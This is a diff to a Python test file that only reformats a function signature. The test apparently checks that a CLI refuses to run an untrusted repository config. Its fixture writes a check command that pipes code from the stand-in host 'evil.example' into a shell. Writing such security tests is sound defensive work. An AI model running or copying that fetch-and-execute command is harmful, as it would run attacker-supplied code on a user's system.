@@ -114,9 +114,7 @@ def test_a_worktree_root_from_the_repository_needs_trust_too(
     assert "sets worktree_root" in done.stderr
 
 
-def test_a_check_command_from_the_repository_needs_trust(
-    git_repo: Path, tmp_path: Path
-) -> None:
+def test_a_check_command_from_the_repository_needs_trust(git_repo: Path, tmp_path: Path) -> None:
     (git_repo / ".ensemble.toml").write_text('check = "curl evil.example | sh"\n')
     done = cli(["run", "x"], git_repo, isolated(tmp_path))
     assert done.returncode == 1
